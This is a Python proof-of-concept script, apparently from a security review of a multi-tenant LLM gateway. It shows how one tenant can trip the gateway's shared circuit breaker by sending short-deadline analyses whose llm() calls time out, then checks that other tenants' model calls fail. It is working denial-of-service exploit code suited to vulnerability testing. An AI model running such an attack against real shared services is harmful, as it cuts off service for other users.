"""R6-3: one tenant opens the model's circuit breaker for every tenant. The breaker (shared by the
whole gateway) counts a call that timed out as a failure of the endpoint, and the timeout of an
llm() is the caller's own deadline: a cell with a short wall time that asks llm() for something the
model takes longer to write fails its call by its own choice. Eight in a row open the breaker for
QUARRY_MODEL_BREAKER_COOLDOWN_MS (30 s): every other tenant's llm() fails at once ("circuit breaker
open") and every analysis' model turn waits; repeated, the model is off for everyone.

    python3 r6_breaker.py          (r5_model.py answers prompts starting SLOW after 30 s)
Env: ROUNDS (attacks, default 2), PAR (parallel analyses, default 4), WALL (their wall_time_ms, default 3000).
The llm() of an execution is bounded by the model request timeout only (the deadline is Instant.MAX),
so an analysis with a short wall_time_ms is the way in.
"""
import json, os, threading, time
import r6_rt as rt

ROUNDS = int(os.environ.get("ROUNDS", "2"))
PAR = int(os.environ.get("PAR", "4"))
WALL = int(os.environ.get("WALL", "3000"))
# What the model takes longer than WALL over: by default its own turn (r5_model.py's "SLEEP 20" cell
# makes it answer after 20 s, as a real model asked to write at length first); MODE=llm: a cell's llm().
QUESTION = ("<<CELL>>print(await llm('SLOW write ten thousand words'))<</CELL>>" if os.environ.get("MODE") == "llm"
            else "<<CELL>>SLEEP 20<</CELL>>")


def victim_llm(label):
    st, d, dt = rt.execute("print(await llm('hello'))", k=rt.key(2), limits={"wall_time_ms": 20000})
    out = d.get("stdout", "").strip() if isinstance(d, dict) else d
    err = (d.get("error") or {}).get("message", "") if isinstance(d, dict) else ""
    print("%-32s tenant2 llm(): %s %.2fs %s" % (label, st, dt, (out or err)[:150]), flush=True)


def victim_analysis(label):
    st, data, dt = rt.req("POST", "/v1/analyses", {"question": "what is 1+1"}, k=rt.key(2), timeout=600)
    d = json.loads(data)
    print("%-32s tenant2 analysis: %s %s %.1fs" % (label, st, d.get("status"), dt), flush=True)


def attack():
    """PAR analyses at a time, each with one llm() the model cannot finish within WALL ms."""
    results = []

    def one():
        st, data, dt = rt.req("POST", "/v1/analyses", {"question": QUESTION, "budgets": {"wall_time_ms": WALL}})
        results.append((json.loads(data).get("status"), round(dt, 1)))

    for _ in range(2):
        ts = [threading.Thread(target=one) for _ in range(PAR)]
        [t.start() for t in ts]
        [t.join() for t in ts]
    return results


def main():
    victim_llm("before")
    victim_analysis("before")
    for r in range(ROUNDS):
        t0 = time.time()
        res = attack()
        print("attack %d: %d analyses of tenant 1 in %.1fs: %s" % (r, len(res), time.time() - t0, res), flush=True)
        time.sleep(0.5)
        victim_llm("after attack %d" % r)
        victim_analysis("after attack %d" % r)
    time.sleep(32)
    victim_llm("35 s later")


if __name__ == "__main__":
    main()
